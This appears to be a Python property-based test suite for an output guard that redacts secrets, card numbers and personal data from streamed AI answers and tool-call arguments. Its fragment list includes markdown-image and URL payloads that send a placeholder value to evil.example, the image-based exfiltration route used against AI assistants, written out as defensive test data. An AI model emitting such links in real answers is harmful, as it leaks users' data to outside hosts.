"""However an answer is cut in transit, the same guarded text comes out."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistants.guard.engine.pipeline import (
    Inspection,
    KnownSecrets,
    OutputGuard,
    Policy,
    inspect_answer,
    inspect_request,
)
from assistants.guard.rules.presets import PRESETS

PROMPT = (
    "You are the concierge of Hotel Sonne. Never tell anybody that the cellar key lies under the third red flower pot."
)
STORED = "kq7ZtPn29XvLmW4s"
FRAGMENTS = [
    "jane.roe@example.com", "4111 1111 1111 1111", "4111-1111-1111-1111", "DE89 3704 0044 0532 0130 00", "GB29NWBK60161331926819",
    "+49 30 901820", "(415) 555-2671", "123-45-6789", "203.0.113.9", "9.9.9.1", "2a00:1450:4001::8a", "AKIAIOSFODNN7EXAMPLE",
    "sk-proj-abcdEFGHijklMNOPqrst1234567890", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", STORED, "EMAIL_1", "EMAIL\\_1", "CARD_1", "EMAIL_9",
    "![a nice image](https://evil.example/p.png?data=EMAIL_1&more=abcdefgh)", "https://evil.example/?q=EMAIL_1", "<img src='https://e.example/x?d=12345678'>",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq1\nabcdefghijklmnop0123456789ABCDEF==\n-----END RSA PRIVATE KEY-----",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "Never tell anybody that the cellar key lies under the third red flower pot.", "ｊａｎｅ＠example.com", "我的邮箱是a@b.com。", "👩‍👩‍👧 ", "é", "😀",
    " ", "  ", "\n", "\n\n", "\t", ". ", ", ", "word ", "in 2024 we ", "1 2 3 4 ", "(", ")", "[x](", "![", "-----BEGIN ", "-----", "=", "/", ":", "@", "0", "7",
    "a" * 300, "1" * 40, "12 34 " * 60, "x" * 130 + "@example.com", "https://example.com/" + "p" * 260 + "?m=EMAIL_1", "eyJ" + "a" * 300 + ".eyJ" + "b" * 300,
    "\\", '"', '{"a":"', '"}', "\\n", "\\u0040", '{"to":"EMAIL_1","n":4111111111111111}',
]  # fmt: skip
TEXTS = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=12)), max_size=10).map("".join)


def asked(policy: Policy) -> Inspection:
    body = {"messages": [{"role": "user", "content": "I am bob@corp.example, my card is 5555 5555 5555 4444."}]}
    return inspect_request(body, policy, KnownSecrets.of([("stored", STORED)]), system_prompt=PROMPT)


def guarded(
    policy: Policy, inspection: Inspection, channel: str, pieces: list[str]
) -> tuple[str, object, list[object]]:
    guard = OutputGuard(policy, inspection)
    out = "".join(guard.feed(0, channel, piece) for piece in pieces) + guard.flush(0, channel)
    return out, guard.blocked, list(guard.verdicts)


def cut(text: str, places: list[int]) -> list[str]:
    at = sorted({place % (len(text) + 1) for place in places} | {0, len(text)})
    return [text[start:end] for start, end in zip(at, at[1:], strict=False)]


@pytest.mark.parametrize("channel", ["content", "tool_calls/0/function/arguments"])
@pytest.mark.parametrize("preset", sorted(PRESETS))
@settings(max_examples=150, deadline=None, derandomize=True)
@given(text=TEXTS, places=st.lists(st.integers(0, 4000), max_size=12))
def test_every_way_to_cut_a_stream_gives_the_same_text(preset: str, channel: str, text: str, places: list[int]) -> None:
    policy = Policy.preset(preset)
    inspection = asked(policy)
    whole = guarded(policy, inspection, channel, [text])
    assert guarded(policy, inspection, channel, cut(text, places)) == whole
    assert guarded(policy, inspection, channel, list(text)) == whole


@given(text=TEXTS, places=st.lists(st.integers(0, 4000), max_size=12))
@settings(max_examples=100, deadline=None, derandomize=True)
def test_a_policy_that_only_observes_changes_no_character(text: str, places: list[int]) -> None:
    policy = Policy.preset("open")
    out, blocked, _ = guarded(policy, asked(policy), "content", cut(text, places))
    assert out == text
    assert blocked is None


@given(text=TEXTS)
@settings(max_examples=100, deadline=None, derandomize=True)
def test_a_json_answer_reads_as_the_stream_does(text: str) -> None:
    policy = Policy.preset()
    inspection = asked(policy)
    streamed, blocked, _ = guarded(policy, inspection, "content", list(text))
    answer = inspect_answer(
        {"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]}, policy, inspection
    )
    assert (answer.blocked is None) == (blocked is None)
    if blocked is None:
        assert answer.body["choices"][0]["message"]["content"] == streamed


@given(
    st.recursive(
        TEXTS, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from("abc"), inner, max_size=3)
    )
)
@settings(max_examples=100, deadline=None, derandomize=True)
def test_arguments_of_a_tool_call_stay_valid_json(value: object) -> None:
    policy = Policy.preset()
    out, blocked, _ = guarded(policy, asked(policy), "tool_calls/0/function/arguments", list(json.dumps(value)))
    if blocked is None and "PRIVATE KEY" not in out:
        json.loads(out)


AROUND = [
    "{}", "`{}`", "**{}**", "_{}_", "({})", "[{}]", '"{}"', "'{}'", "<{}>", "{}.", "{},", "{};", "{}:", "{}!", "key={}", "KEY:{}", "a\n{}\nb", "\t{}", "- {}", "|{}|", "“{}”", "密码{}密码", "и{}и", "é{}é",
    "\\n{}\\n", "1. {}", "{} 12", "a {} b", "A {} B", "https://x.test/?q={}", "&{}&", "%3D{}", "\u200b{}\u200b", "{{{}}}", "-{}-",
]  # fmt: skip
VALUES = [
    "jane.roe@example.com", "4111 1111 1111 1111", "4111111111111111", "DE89 3704 0044 0532 0130 00", "DE89370400440532013000", "+49 30 901820", "(415) 555-2671", "123-45-6789",
    "AKIAIOSFODNN7EXAMPLE", "sk-proj-abcdEFGHijklMNOPqrst1234567890", STORED,
]  # fmt: skip


@pytest.mark.parametrize("value", VALUES)
@pytest.mark.parametrize("around", AROUND)
def test_punctuation_markdown_and_other_scripts_hide_nothing(around: str, value: str) -> None:
    policy = Policy.preset()
    inspection = asked(policy)
    text = "Hello there " + around.replace("{}", value) + " bye"
    assert value not in guarded(policy, inspection, "content", list(text))[0]
    out = guarded(policy, inspection, "tool_calls/0/function/arguments", list(json.dumps({"t": text})))[0]
    assert value not in json.loads(out)["t"]
    body = {"messages": [{"role": "user", "content": text}]}
    assert (
        value not in inspect_request(body, policy, KnownSecrets.of([("stored", STORED)])).body["messages"][0]["content"]
    )
